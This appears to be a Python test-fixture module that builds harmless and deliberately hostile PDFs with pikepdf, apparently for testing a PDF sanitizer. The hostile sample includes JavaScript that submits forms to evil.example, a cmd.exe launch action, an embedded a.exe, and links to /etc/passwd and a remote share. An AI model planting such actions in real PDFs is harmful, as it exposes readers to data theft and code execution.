"""PDFs as they may come from outside: harmless, hostile, broken."""

import io
import warnings

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PAGE = Array([0, 0, 612, 792])


def plain(text: str = "Hello record", pages: int = 1) -> pikepdf.Pdf:
    """A PDF with one line of text on each page."""
    pdf = pikepdf.new()
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(612, 792))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
        page.obj.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode())
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """The bytes of a PDF."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # samples are odd on purpose
        pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def script(code: str = "app.alert('x')", **more: object) -> Dictionary:
    """A JavaScript action."""
    return Dictionary(S=Name.JavaScript, JS=String(code), **more)


def link(action: object) -> Dictionary:
    """A link annotation with an action."""
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


def uri(target: str) -> Dictionary:
    """A link to an address."""
    return Dictionary(S=Name.URI, URI=String(target))


def text_field() -> Dictionary:
    """A form field that runs a script at each key."""
    keystroke = Dictionary(K=script("AFNumber_Keystroke()"))
    return Dictionary(Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), FT=Name.Tx, T=String("f"), AA=keystroke)


def hostile() -> pikepdf.Pdf:
    """A PDF with every kind of thing that acts."""
    pdf = plain("Keep me", pages=2)
    shared = pdf.make_indirect(script("app.launchURL('http://evil.example')"))
    attachment = pdf.make_stream(b"MZ payload")
    attachment.Type = Name.EmbeddedFile
    filespec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=attachment))
    pdf.Root.OpenAction = shared
    pdf.Root.AA = Dictionary(WC=shared)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), shared])),
        EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), filespec])),
    )
    pdf.Root.AF = Array([filespec])
    pdf.Root.URI = Dictionary(Base=String("file:///"))
    widget = pdf.make_indirect(text_field())
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp/>"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    chain = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([shared, launch]))
    pdf.pages[0].obj.AA = Dictionary(O=script("this.submitForm('http://evil.example')"))
    pdf.pages[0].obj.Annots = Array(
        [
            link(uri("https://good.example/page")),
            link(uri("javascript:alert(1)")),
            link(uri("JavaScript:alert(1)")),
            link(uri("file:///etc/passwd")),
            link(uri("\\\\evil.example\\share")),
            link(launch),
            link(chain),
            link(Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
            link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))),
            link(Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))),
            link(Dictionary(S=Name.ImportData, F=String("x.fdf"))),
            link(Dictionary(S=Name.Named, N=Name.Print)),
            link(Dictionary(S=Name.Named, N=Name.NextPage)),
            link(Dictionary(Type=Name.Font, S=Name.JavaScript, JS=String("forged type"))),
            link(Dictionary(Type=Name.Action, S=Name("/BrandNew"))),
            Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=filespec),
            Dictionary(Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9])),
            widget,
        ]
    )  # fmt: skip
    return pdf
